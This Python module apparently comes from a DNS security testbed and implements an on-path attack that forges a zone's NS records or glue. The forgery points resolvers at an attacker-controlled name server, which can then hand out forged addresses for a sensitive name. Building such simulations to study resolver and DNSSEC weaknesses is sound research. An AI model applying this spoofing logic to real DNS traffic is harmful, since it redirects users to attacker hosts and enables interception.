"""Points a delegation to the attacker's own name server, or only its glue to the attacker's address."""

from collections.abc import Iterable
from typing import Literal

import dns.name
import dns.rdataclass
import dns.rdatatype
import dns.rrset
from pydantic import Field

from testbed.attack.api import Capability, MessageAction, Replace, Response, Rewriter, RewriterParameters
from testbed.core.zone import Zone


class ForgeNsParameters(RewriterParameters):
    """What is forged, and what the attacker's server then answers."""

    forge: Literal["name-servers", "glue"] = Field(
        "name-servers",
        description="name-servers: the NS RRset names the attacker's server. glue: the names stay, and "
        "addresses of name servers become the attacker's.",
    )
    zone: str = Field("", description="The zone whose delegation is forged; the target zone if empty.")
    answers: Literal["copied", "forged"] = Field(
        "copied",
        description="copied: the attacker's server hands out true copies. forged: another address for the "
        "sensitive name.",
    )


class ForgeNs(Rewriter):
    """Forges what no signature protects at a zone cut: the NS RRset and glue (RFC 4035 section 2.2).

    The server that it leads to answers for the zone and, when that lies above the target, for every zone
    down to it, each with the next delegation pointing to itself.
    """

    capability = Capability.ON_PATH
    source = "RFC 3833 section 2.3; draft-ietf-dnsop-ns-revalidation"
    Parameters = ForgeNsParameters

    @property
    def _chosen(self) -> ForgeNsParameters:
        assert isinstance(self.parameters, ForgeNsParameters)
        return self.parameters

    @property
    def _zone(self) -> dns.name.Name:
        return dns.name.from_text(self._chosen.zone) if self._chosen.zone else self.scene.target_zone

    def response(self, response: Response) -> MessageAction:
        """Forge the delegation, wherever it is given."""
        message = response.message
        if self._chosen.forge == "glue":
            forged = [self._forge_addresses(section) for section in (message.answer, message.additional)]
        else:
            forged = [self._forge_servers(section) for section in (message.answer, message.authority)]
        if not any(forged):
            return None
        self.matched()
        return Replace(message)

    def _forge_servers(self, section: list[dns.rrset.RRset]) -> bool:
        forged = False
        for index, rrset in enumerate(section):
            if rrset.rdtype == dns.rdatatype.NS and rrset.name == self._zone:
                own = self.scene.own_name.to_text()
                section[index] = dns.rrset.from_text(rrset.name, rrset.ttl, "IN", "NS", own)
                forged = True
        return forged

    def _forge_addresses(self, section: list[dns.rrset.RRset]) -> bool:
        names = set(self.scene.server_names.values()) - {self.scene.own_name}
        forged = False
        for index, rrset in enumerate(section):
            address = self._own_address(rrset.rdtype)
            if address is not None and rrset.name in names:
                section[index] = dns.rrset.from_text(rrset.name, rrset.ttl, "IN", rrset.rdtype, address)
                forged = True
        return forged

    def _own_address(self, rdtype: dns.rdatatype.RdataType) -> str | None:
        ipv4, ipv6 = self.scene.own_addresses
        return {dns.rdatatype.A: ipv4, dns.rdatatype.AAAA: ipv6}.get(rdtype)

    def serves(self) -> Iterable[Zone]:
        """The zones from the forged delegation down to the target, or all that a forged address is for."""
        for origin, zone in self.scene.zones.items():
            if origin in (dns.name.root, self.scene.own_zone):
                continue
            below = self.scene.target_zone.is_subdomain(origin) and origin.is_subdomain(self._zone)
            if below or self._chosen.forge == "glue":
                yield Zone(origin, (self._served(rrset, origin) for rrset in zone))

    def _served(self, rrset: dns.rrset.RRset, origin: dns.name.Name) -> dns.rrset.RRset:
        """A record of a zone as the attacker's server gives it away."""
        chosen = self._chosen
        address = self._own_address(rrset.rdtype)
        if chosen.forge == "name-servers":
            towards_target = self.scene.target_zone.is_subdomain(rrset.name) and rrset.name != origin
            if rrset.rdtype == dns.rdatatype.NS and towards_target:
                return dns.rrset.from_text(rrset.name, rrset.ttl, "IN", "NS", self.scene.own_name.to_text())
        elif address is not None and rrset.name in set(self.scene.server_names.values()):
            return dns.rrset.from_text(rrset.name, rrset.ttl, "IN", rrset.rdtype, address)
        if chosen.answers == "forged" and address and rrset.name == self.scene.sensitive_name:
            return dns.rrset.from_text(rrset.name, rrset.ttl, "IN", rrset.rdtype, address)
        return rrset
